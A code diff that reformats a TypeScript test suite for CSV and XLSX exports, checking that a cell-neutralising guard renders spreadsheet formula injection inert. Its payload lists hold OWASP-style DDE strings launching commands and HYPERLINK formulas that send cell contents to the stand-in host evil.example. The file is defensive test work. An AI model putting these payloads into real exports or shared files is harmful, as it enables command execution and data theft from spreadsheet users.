@@ -5,8 +5,16 @@ import { neutraliseCell } from "@/lib/exports/cells";
 import { toCsv } from "@/lib/exports/csv";
 import { toXlsx } from "@/lib/exports/xlsx";
 
-const dangerous = ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1"];
-const harmless = ["مرحبا بالعالم — منتدى القمة العالمية لمجتمع المعلومات", "Genève, «Suisse»", "信息社会世界峰会", "Всемирная встреча", "a,b;\"quoted\"\nnew line", "1 = 1", "e-mail"];
+const dangerous = ['=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\r=1"];
+const harmless = [
+  "مرحبا بالعالم — منتدى القمة العالمية لمجتمع المعلومات",
+  "Genève, «Suisse»",
+  "信息社会世界峰会",
+  "Всемирная встреча",
+  'a,b;"quoted"\nnew line',
+  "1 = 1",
+  "e-mail",
+];
 
 /** What a reader gets back once the neutralising apostrophe is taken off. */
 const unguard = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);
@@ -47,20 +55,20 @@ describe("CSV", () => {
 // separator a spreadsheet might split on (comma, semicolon, tab)
 const owasp = [
   "=cmd|' /C calc'!A0",
-  "=HYPERLINK(\"http://evil.example?leak=\"&A1&A2,\"Error: please click for further information\")",
+  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")',
   "+cmd|' /C calc'!A0",
   "-2+3+cmd|' /C calc'!A0",
   "@SUM(1+1)*cmd|' /C calc'!A0",
   "=10+20+cmd|' /C calc'!A0",
   "\n-3+3+cmd|' /C calc'!A0",
-  "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+  '=DDE("cmd";"/C calc";"!A0")A0',
   "\t=1+2",
   "\r=1+2",
   "\0=1+2",
   "  =1+2",
-  "\"=1+2\"",
+  '"=1+2"',
 ];
-const afterSeparator = ["x;=1+2", "x,=1+2", "x\t=1+2", "x; =1+2;", ";=1+2;", ",=1+2", "\t@SUM(1,2)", "a;b,=HYPERLINK(\"http://evil.example\");c"];
+const afterSeparator = ["x;=1+2", "x,=1+2", "x\t=1+2", "x; =1+2;", ";=1+2;", ",=1+2", "\t@SUM(1,2)", 'a;b,=HYPERLINK("http://evil.example");c'];
 const formulaStart = /^\s*[=+\-@]/;
 
 describe("CSV injection (OWASP payloads)", () => {
@@ -92,7 +100,13 @@ describe("CSV injection (OWASP payloads)", () => {
   test("read with the comma it was written with, every text comes back as written (after the apostrophe)", () => {
     const values = [...owasp, ...afterSeparator];
 
-    const parsed = Papa.parse<string[]>(toCsv(["text"], values.map((v) => [v])).slice(1), { newline: "\r\n" }).data;
+    const parsed = Papa.parse<string[]>(
+      toCsv(
+        ["text"],
+        values.map((v) => [v]),
+      ).slice(1),
+      { newline: "\r\n" },
+    ).data;
 
     expect(parsed.slice(1).map((r) => unguard(r[0]!))).toEqual(values);
   });
@@ -102,7 +116,12 @@ describe("XLSX", () => {
   test("reads back with every dangerous cell inert and every text intact", async () => {
     const values = [...dangerous, ...harmless];
 
-    const buffer = await toXlsx("submissions", ["reference", "title"], values.map((v, i) => [`R-${i}`, v]), { rtl: true });
+    const buffer = await toXlsx(
+      "submissions",
+      ["reference", "title"],
+      values.map((v, i) => [`R-${i}`, v]),
+      { rtl: true },
+    );
 
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
